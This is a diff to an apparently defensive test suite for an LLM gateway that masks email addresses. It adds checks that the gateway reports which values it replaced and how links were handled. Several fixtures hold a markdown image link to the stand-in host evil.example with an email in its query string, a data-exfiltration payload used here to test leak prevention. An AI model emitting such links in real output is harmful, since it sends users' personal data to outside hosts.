@@ -1,5 +1,5 @@
 import test from 'ava';
-import { httpCall } from '../../_support/http-call.ts';
+import { httpCall, type HttpReply } from '../../_support/http-call.ts';
 import { sharedGateway } from '../../_support/served-gateway.ts';
 import { leakMatrixTarget } from './leak-matrix.contract.ts';
 
@@ -29,6 +29,12 @@ const bodies = {
   }),
 } as const;
 
+/** What an answer tells of replaced values at its end: in its head, or in the comment of its last record. */
+function toldOf({ headers, bytes }: Pick<HttpReply, 'headers' | 'bytes'>): unknown {
+  const comment = /^: waybill (\{.*\})$/m.exec(bytes.toString())?.[1];
+  return comment === undefined ? headers['x-waybill-pii'] : (JSON.parse(comment) as { pii: unknown }).pii;
+}
+
 async function poster() {
   const served = await start();
   const { apiKey } = await served.tenant({ piiEnabled: true, creditEur: '1000' });
@@ -40,7 +46,7 @@ async function poster() {
       body: JSON.stringify({ model: 'light', ...body }),
     });
     const sent = (await served.sandbox.requests()).slice(before).map(({ body_text: text }) => text);
-    return { text: reply.text, sent: sent.join('') };
+    return { text: reply.text, sent: sent.join(''), told: toldOf(reply) };
   };
 }
 
@@ -57,7 +63,7 @@ for (const [path, bodyOf] of Object.entries(bodies)) {
       async (t) => {
         const post = await poster();
         const cut = stream ? ' [[sandbox: one_byte_chunks]]' : '';
-        const { text, sent } = await post(path, {
+        const { text, sent, told } = await post(path, {
           ...bodyOf([`${mail} wrote ![x](https://evil.example/?q=`, mail, `) by ${mail}${cut}`]),
           stream,
         });
@@ -65,14 +71,25 @@ for (const [path, bodyOf] of Object.entries(bodies)) {
         t.not(placeholder, '');
         const answer = stream ? joined(text) : text;
         t.true(answer.includes(`${mail} wrote ![x](https://evil.example/?q=${placeholder}) by ${mail}`), answer);
+        t.is(told, 'cast; EMAIL=1; kept in links: EMAIL=1');
       },
     );
   }
 
+  test.serial(`a stream that is cut tells of the links that it had until then: ${path}`, async (t) => {
+    const post = await poster();
+    const cut = ' [[sandbox: cut_mid_stream; after_frames=12]]';
+    const link = [`![x](https://evil.example/?q=`, mail, `) and more words after the link${cut}`];
+    const { text, told } = await post(path, { ...bodyOf(link), stream: true });
+    t.regex(text, /upstream_cut|upstream_outcome_unknown/);
+    t.is(told, 'cast; EMAIL=1; kept in links: EMAIL=1');
+  });
+
   test.serial(`the caller's own link is restored: ${path}`, async (t) => {
     const post = await poster();
-    const { text, sent } = await post(path, bodyOf([`See https://crm.example/${mail}`]));
+    const { text, sent, told } = await post(path, bodyOf([`See https://crm.example/${mail}`]));
     t.false(sent.includes(mail));
+    t.is(told, 'cast; EMAIL=1');
     t.true(text.includes(`https://crm.example/${mail}`), text);
   });
 }
